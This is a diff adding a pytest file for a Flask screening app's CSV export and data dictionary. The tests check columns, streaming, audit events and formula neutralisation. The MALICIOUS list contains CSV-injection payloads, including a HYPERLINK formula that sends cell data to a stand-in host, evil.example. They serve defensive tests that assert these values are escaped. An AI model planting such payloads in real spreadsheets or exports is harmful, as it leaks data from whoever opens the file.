@@ -1,0 +1,222 @@
+"""CSV export and data dictionary: columns, codes or labels, no runnable formulas."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from pathlib import Path
+
+import pytest
+from flask import Flask
+from flask.testing import FlaskClient
+from sqlalchemy import select
+from sqlalchemy.orm import Session
+
+from screener import export
+from screener.models import AuditEvent
+from screener.questionnaire import Questionnaire
+
+from .conftest import SubmissionFactory
+
+MALICIOUS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def parse(body: bytes) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
+
+
+def download(client: FlaskClient, **form: str) -> bytes:
+    response = client.post("/staff/export.csv", data=form)
+    assert response.status_code == 200
+    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.headers["Content-Disposition"].startswith(
+        'attachment; filename="screener-submissions-'
+    )
+    assert response.headers["Cache-Control"] == "no-store"
+    return response.get_data()
+
+
+def test_columns_follow_the_questionnaire(questionnaire: Questionnaire) -> None:
+    names = [col.name for col in export.columns(questionnaire)]
+    assert names[:6] == [
+        "reference",
+        "submitted_on",
+        "questionnaire_version",
+        "status",
+        "red_flag_level",
+        "regions",
+    ]
+    question_ids = [name.split("___")[0] for name in names[6:]]
+    order = [q.id for q in questionnaire.questions()]
+    assert list(dict.fromkeys(question_ids)) == order
+    assert "body_regions___neck" in names
+    assert "body_regions" not in names  # multiple choice: one 0/1 column per option
+
+
+def test_one_row_per_submission_with_codes(
+    staff_client: FlaskClient, make_submission: SubmissionFactory
+) -> None:
+    first = make_submission(
+        answers={
+            "safety_now": ["none"],
+            "body_regions": ["neck"],
+            "who_answering": "self",
+        }
+    )
+    make_submission()
+    body = download(staff_client)
+    assert body.startswith(b"\xef\xbb\xbf")  # Excel reads UTF-8 with a byte-order mark
+    rows = parse(body)
+    header, data = rows[0], rows[1:]
+    assert len(data) == 2
+    row = dict(
+        zip(header, next(r for r in data if r[0] == first.reference), strict=True)
+    )
+    assert row["who_answering"] == "self"
+    assert row["body_regions___neck"] == "1"
+    assert row["body_regions___eyes"] == "0"
+    assert row["move_pulled"] == ""  # not asked is blank, not "no"
+    assert row["regions"] == "neck"
+
+
+def test_labels_on_request(
+    staff_client: FlaskClient, make_submission: SubmissionFactory, questionnaire
+) -> None:
+    make_submission(
+        answers={
+            "safety_now": ["none"],
+            "body_regions": ["neck"],
+            "who_answering": "self",
+        }
+    )
+    rows = parse(download(staff_client, labels="1"))
+    row = dict(zip(rows[0], rows[1], strict=True))
+    label = questionnaire.choice_label(questionnaire.question("who_answering"), "self")
+    assert row["who_answering"] == label
+
+
+def test_formulas_are_neutralised_in_the_raw_bytes(
+    staff_client: FlaskClient, make_submission: SubmissionFactory
+) -> None:
+    for value in MALICIOUS:
+        answers = {"safety_now": ["none"], "anything_else": value, "pain_severity": -3}
+        make_submission(answers=answers)
+    body = download(staff_client)
+    # RFC 4180 quoting on the wire: the quote marks inside are doubled.
+    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"' in body
+    rows = parse(body)
+    column = rows[0].index("anything_else")
+    assert sorted(row[column] for row in rows[1:]) == sorted(
+        "'" + value for value in MALICIOUS
+    )
+    for row in rows[1:]:
+        for cell in row:
+            if re.fullmatch(r"-?\d+", cell):
+                continue  # a number stays a number, sign and all
+            assert not cell.startswith(export.FORMULA_STARTS), repr(cell)
+    assert {row[rows[0].index("pain_severity")] for row in rows[1:]} == {"-3"}
+
+
+@pytest.mark.parametrize(
+    ("cell", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("-3", "'-3"),
+        (-3, -3),
+        (7, 7),
+        ("plain", "plain"),
+        ("a=b", "a=b"),
+        ("", ""),
+    ],
+)
+def test_neutralise(cell: str | int, expected: str | int) -> None:
+    assert export.neutralise(cell) == expected
+
+
+def test_export_follows_the_queue_filters_and_is_audited(
+    staff_client: FlaskClient, make_submission: SubmissionFactory, db: Session
+) -> None:
+    urgent = make_submission(red_flag_level="emergency")
+    make_submission()
+    rows = parse(download(staff_client, level="emergency", order="urgent"))
+    assert [row[0] for row in rows[1:]] == [urgent.reference]
+    event = db.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
+    assert event.actor == "reviewer1"
+    assert event.details == {
+        "rows": 1,
+        "completed": True,
+        "labels": False,
+        "filters": {"level": "emergency", "urgent_first": True},
+    }
+
+
+def test_export_is_post_only_with_csrf(staff_client: FlaskClient) -> None:
+    assert staff_client.get("/staff/export.csv").status_code == 405
+
+
+def test_the_export_streams(
+    staff_client: FlaskClient, make_submission: SubmissionFactory, monkeypatch
+) -> None:
+    monkeypatch.setattr(export, "ROWS_PER_CHUNK", 2)
+    for _ in range(5):
+        make_submission()
+    response = staff_client.post("/staff/export.csv", data={}, buffered=False)
+    assert response.is_streamed
+    chunks = list(response.response)
+    assert len(chunks) >= 3  # header and rows arrive in pieces, not one buffer
+    response.close()
+
+
+def test_the_data_dictionary_describes_every_column(
+    staff_client: FlaskClient, questionnaire: Questionnaire, db
+) -> None:
+    response = staff_client.get("/staff/data-dictionary.csv")
+    rows = parse(response.get_data())
+    assert rows[0] == export.DICTIONARY_HEADER
+    assert [row[0] for row in rows[1:]] == [
+        col.name for col in export.columns(questionnaire)
+    ]
+    by_name = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
+    assert by_name["body_regions___neck"][
+        "choices"
+    ] == "neck=" + questionnaire.choice_label(
+        questionnaire.question("body_regions"), "neck"
+    )
+    assert "includes neck" in by_name["neck_direction___turn"]["show_if"]
+    assert db.scalar(
+        select(AuditEvent.action).where(AuditEvent.action == "data_dictionary")
+    )
+
+
+def test_export_from_the_command_line(
+    app: Flask, make_submission: SubmissionFactory, db: Session, tmp_path: Path
+) -> None:
+    import datetime as dt
+
+    inside = make_submission(submitted_on=dt.date(2026, 11, 5))
+    make_submission(submitted_on=dt.date(2026, 10, 1))
+    out = tmp_path / "export.csv"
+    result = app.test_cli_runner().invoke(
+        args=[
+            "export-csv",
+            "--out",
+            str(out),
+            "--since",
+            "2026-11-01",
+            "--until",
+            "2026-11-30",
+        ]
+    )
+    assert result.exit_code == 0, result.output
+    rows = parse(out.read_bytes())
+    assert [row[0] for row in rows[1:]] == [inside.reference]
+    event = db.scalar(select(AuditEvent).where(AuditEvent.action == "export"))
+    assert (event.actor, event.details["rows"]) == ("cli", 1)
